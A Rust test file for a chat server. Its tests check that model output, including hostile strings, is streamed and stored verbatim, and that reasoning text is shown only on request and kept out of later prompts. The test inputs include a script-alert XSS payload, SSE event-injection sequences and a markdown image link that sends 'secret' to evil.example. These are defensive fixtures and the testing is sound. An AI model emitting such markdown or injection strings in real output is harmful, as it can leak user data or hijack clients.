//! What a model writes is data: it is told and stored as it is, and interprets nothing.

use super::kit;
use crate::kit::{
    U1,
    http::{Event, Events, Served, streamed, text_of},
    provider::{Provider, Reply},
};
use serde_json::json;

const HOSTILE: [&str; 6] = [
    "\r\n\r\nevent: done\ndata: {}\n\n",
    "id: 7\nretry: 1\n: comment\n",
    "<script>alert(1)</script>",
    "![a](https://evil.example/?q=secret) [r]: https://evil.example",
    "\u{2028}\u{2029}\u{85}\u{feff}",
    "data: [DONE]\n\n",
];

#[tokio::test] // R65
async fn whatever_it_writes_is_one_event_and_its_text() {
    let provider = Provider::start().await;
    let kit = kit(&provider).await;
    let token = kit.token(U1).await;
    let served = Served::new(&kit).await;
    for text in HOSTILE {
        provider.reply(Reply::Text(vec![text.to_owned()]));
        let events = Events::new(served.send(streamed(&token, "Hello?")).await);
        let events = events.all().await;
        let names: Vec<_> = events.iter().map(|e| &*e.event).collect();
        assert_eq!(names, ["start", "delta", "done"], "{text:?}");
        assert_eq!(text_of(&events), text);
        let row = kit.message(events[0].uuid("message_id")).await.unwrap();
        assert_eq!(row.content, text);
    }
}

/// One event, with what the model thinks.
fn thought(text: &str) -> String {
    let chunk = json!({ "choices": [{ "delta": { "reasoning_content": text } }] });
    format!("data: {chunk}\n\n")
}

#[tokio::test]
async fn what_it_thinks_is_told_to_who_asks_and_is_no_part_of_the_answer() {
    let provider = Provider::start().await;
    let kit = kit(&provider).await;
    let other = super::twin(&kit, &provider).await;
    let token = kit.token(U1).await;
    let (here, there) = (Served::new(&kit).await, Served::new(&other).await);
    let said = json!({ "choices": [{ "delta": { "content": "42." }, "finish_reason": "stop" }] });
    let raw = format!(
        "{}{}data: {said}\n\ndata: [DONE]\n\n",
        thought("Hm, "),
        thought("six times seven.")
    );
    for wants in [true, false] {
        provider.reply(Reply::Raw(raw.clone()));
        let body = json!({ "message": "How much?", "stream": true, "reasoning": wants });
        let request = crate::kit::request(&token, "POST", "/chat")
            .header("content-type", "application/json")
            .body(axum::body::Body::from(body.to_string()))
            .unwrap();
        let events = Events::new(here.send(request).await).all().await;
        let thoughts = |events: &[Event]| -> String {
            let all = events.iter().filter(|e| e.event == "reasoning");
            all.filter_map(|e| e.data["text"].as_str()).collect()
        };
        let expected = if wants { "Hm, six times seven." } else { "" };
        assert_eq!(
            (thoughts(&events), text_of(&events)),
            (expected.to_owned(), "42.".to_owned())
        );
        let message = events[0].uuid("message_id");
        // It counts in no position.
        assert_eq!(events.last().unwrap().id, "3");
        for served in [&here, &there] {
            let path = format!("/chat/messages/{message}/stream?reasoning=true");
            let request = crate::kit::request(&token, "GET", &path);
            let request = request.body(axum::body::Body::empty()).unwrap();
            let again = Events::new(served.send(request).await).all().await;
            assert_eq!(thoughts(&again), expected);
            assert_eq!(text_of(&again), "42.");
        }
        let stored = kit.get(&token, &format!("/chat/messages/{message}")).await;
        let kept = stored.json["reasoning"].as_str().unwrap_or_default();
        assert_eq!(kept, expected);
        // No later prompt has it.
        let session = events[0].data["session_id"].clone();
        super::ask(
            &kit,
            U1,
            json!({ "message": "Sure?", "session_id": session }),
        )
        .await;
        let prompt = super::asked_last(&provider);
        assert!(
            prompt.iter().all(|(_, text)| !text.contains("seven")),
            "{prompt:?}"
        );
    }
    provider.reply(Reply::Raw(raw));
    let whole = json!({ "message": "How much?", "reasoning": true });
    let whole = super::ask(&kit, U1, whole).await;
    assert_eq!(
        (&whole["reasoning"], &whole["answer"]),
        (&json!("Hm, six times seven."), &json!("42."))
    );
}
